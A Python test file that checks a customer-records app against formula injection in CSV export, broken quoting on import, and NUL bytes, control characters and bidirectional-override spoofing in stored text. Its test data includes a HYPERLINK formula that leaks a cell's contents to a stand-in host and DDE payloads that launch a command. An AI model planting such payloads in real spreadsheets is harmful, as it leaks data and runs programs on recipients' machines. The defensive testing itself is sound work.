"""Hostile CSV files and hostile customer text: formula injection on export, an
unterminated quote on import, NUL bytes, control characters and bidirectional overrides
in every stored text field (issue 17)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from cti.app.cli import main
from cti.customers.base import CustomerBase, CustomerFormError, new_customer, safe_text
from cti.customers.csv_export import export_customers, export_orders
from cti.customers.csv_files import from_cell, records, to_cell
from cti.models import Customer, Order, PhoneNumber
from cti.store.database import Store
from tests.cti.test_customer_import import HEADER, load, write

pytestmark = [pytest.mark.customers, pytest.mark.security]

RLO = "\u202e"


@pytest.fixture
async def base(tmp_path: Path) -> AsyncIterator[CustomerBase]:
    async with await Store.open(tmp_path / "cti.db") as store:
        yield CustomerBase(store)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "''+twice",
]


@pytest.mark.parametrize("text", [*FORMULAS, "+8613800000001", "-12.50", "Ann", "", "'t Hooft"])
def test_a_cell_is_neutralised_and_read_back_exactly(text: str) -> None:
    cell = to_cell(text)
    assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert not cell.startswith("-") or cell == "-12.50"  # a plain number stays a number
    assert from_cell(cell) == text


async def test_export_writes_no_formula_and_keeps_numbers_as_text(
    base: CustomerBase, tmp_path: Path
) -> None:
    phone = (PhoneNumber(raw="+44 20 7946 0958", e164="+442079460958"),)
    await base.add_customers(
        Customer(id=n, name=name, company=name, phones=phone if n == 1 else ())
        for n, name in enumerate(FORMULAS, start=1)
    )
    await base.add_orders([Order(customer_id=1, ordered_at=1.7e9, amount=-12.5, reference="=1+1")])
    out = io.StringIO()
    assert await export_customers(base, out) == len(FORMULAS)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert rows[1][2] == "'+442079460958"  # the number as text: + and digits kept
    orders = io.StringIO()
    await export_orders(base, orders, "UTC")
    assert orders.getvalue().splitlines()[1] == "#1,2023-11-14T22:13:20+00:00,-12.50,,'=1+1"

    exported = tmp_path / "exported.csv"
    exported.write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    async with await Store.open(tmp_path / "other.db") as other_store:
        other = CustomerBase(other_store)
        report = await load(other, exported)
        names = [c.name async for batch in other.all_customers() for c in batch]
        [first] = await other.get_many([1])
    tab_row = FORMULAS.index("\t=1+1") + 2  # a tab is a control character: refused
    assert [(e.line, e.reason) for e in report.errors] == [
        (tab_row, "name holds a control character (U+0009); company holds a control"
                  " character (U+0009)")
    ]  # fmt: skip
    assert names == [f for f in FORMULAS if f != "\t=1+1"]  # the quotes added are gone
    assert first.phones[0].e164 == "+442079460958"


def test_an_unterminated_quote_costs_its_line_only() -> None:
    lines = ["a,b\n", '"open,1\n', "c,2\n", "d,3\n"]
    got = list(records(lines))
    assert [(line, cells if isinstance(cells, list) else str(cells)) for line, cells in got] == [
        (1, ["a", "b"]),
        (2, "line 2: a quote opened on this line is never closed"),
        (3, ["c", "2"]),
        (4, ["d", "3"]),
    ]


def test_a_quote_left_open_for_many_lines_is_given_up_and_the_lines_read_again() -> None:
    lines = ['"open,1\n', *(f"n{i},{i}\n" for i in range(30)), 'late " quote,9\n']
    got = list(records(lines))
    assert str(got[0][1]) == "line 1: a quote opened on this line is not closed within 20 lines"
    assert [cells for _, cells in got[1:31]] == [[f"n{i}", str(i)] for i in range(30)]
    assert got[31][0] == 32  # the stray quote at the end: its own line again


def test_a_multi_line_field_is_one_record_on_its_first_line() -> None:
    assert list(records(['1,"two\n', 'lines",x\n', "2,y\n"])) == [
        (1, ["1", "two\nlines", "x"]),
        (3, ["2", "y"]),
    ]


async def test_unterminated_quote_and_hostile_text_are_reported_by_line(
    base: CustomerBase, tmp_path: Path
) -> None:
    path = write(
        tmp_path,
        HEADER.replace("\n", ",address\n")
        + ',"Ann,13800000001,,,,,,\n'  # 2: open until the address of line 8
        + ",Bob,13800000002,,,,,,\n"  # 3
        + f",Eve{RLO}gnp.exe,13800000003,,,,,,\n"  # 4
        + ",Nul\x00,13800000004,,,,,,\n"  # 5
        + ",Esc\x1b[2J,13800000005,,,,,,\n"  # 6
        + f",Mal,138{RLO}00000006,,,Acme{RLO},,,\n"  # 7
        + ',Carl,13800000007,,,,,,"1 Main St\n Springfield"\n'  # 8-9: flattened
        + ",Dan,13800000008,,,,,,\n",  # 10
    )
    report = await load(base, path)
    errors = {e.line: e.reason for e in report.errors}
    assert errors == {
        2: "a quote opened on this line closes only on line 8, putting a line break in a"
        " field that must be one line",
        4: "name holds a bidirectional control (U+202E) that disguises the text",
        5: "name holds a NUL byte",
        6: "name holds a control character (U+001B)",
        7: errors[7],
    }
    assert "mobile holds a bidirectional control (U+202E)" in errors[7]
    assert "company holds a bidirectional control (U+202E)" in errors[7]
    stored = {c.name: c async for batch in base.all_customers() for c in batch}
    assert sorted(stored) == ["Bob", "Carl", "Dan"]
    assert stored["Carl"].address == "1 Main St, Springfield"


def test_the_cli_names_the_file_and_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, HEADER + ',"Ann,13800000001,,,,,\n,Bob,13800000002,,,,,\n')
    assert main(["customers", "import", str(path), "--db", str(tmp_path / "cli.db")]) == 1
    out, err = capsys.readouterr()
    assert f"{path}: line 2: a quote opened on this line is never closed" in err
    assert "1 new customers" in out


def test_an_unterminated_quote_in_the_header_stops_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, '"name,mobile\nAnn,13800000001\n')
    assert main(["customers", "import", str(path), "--db", str(tmp_path / "cli.db")]) == 2
    assert f"{path} line 1: the header is not CSV" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("fields", "error"),
    [
        ({"name": f"Eve{RLO}gnp.exe"}, "name: holds a bidirectional control (U+202E)"),
        ({"name": "Nul\x00"}, "name: holds a NUL byte"),
        ({"name": "Ann", "company": "A\u2066cme"}, "company: holds a bidirectional control"),
        ({"name": "Ann", "email": "a\x00@example.com"}, "e-mail: holds a NUL byte"),
    ],
)
def test_the_desk_form_refuses_unsafe_text(fields: dict[str, str], error: str) -> None:
    with pytest.raises(CustomerFormError, match=re.escape(error)):
        new_customer(**fields)


def test_free_text_is_kept_without_its_unsafe_characters() -> None:
    assert safe_text(f"a\r\nb\x00c{RLO}d\te\x1b[2J") == "a\nbcd\te[2J"
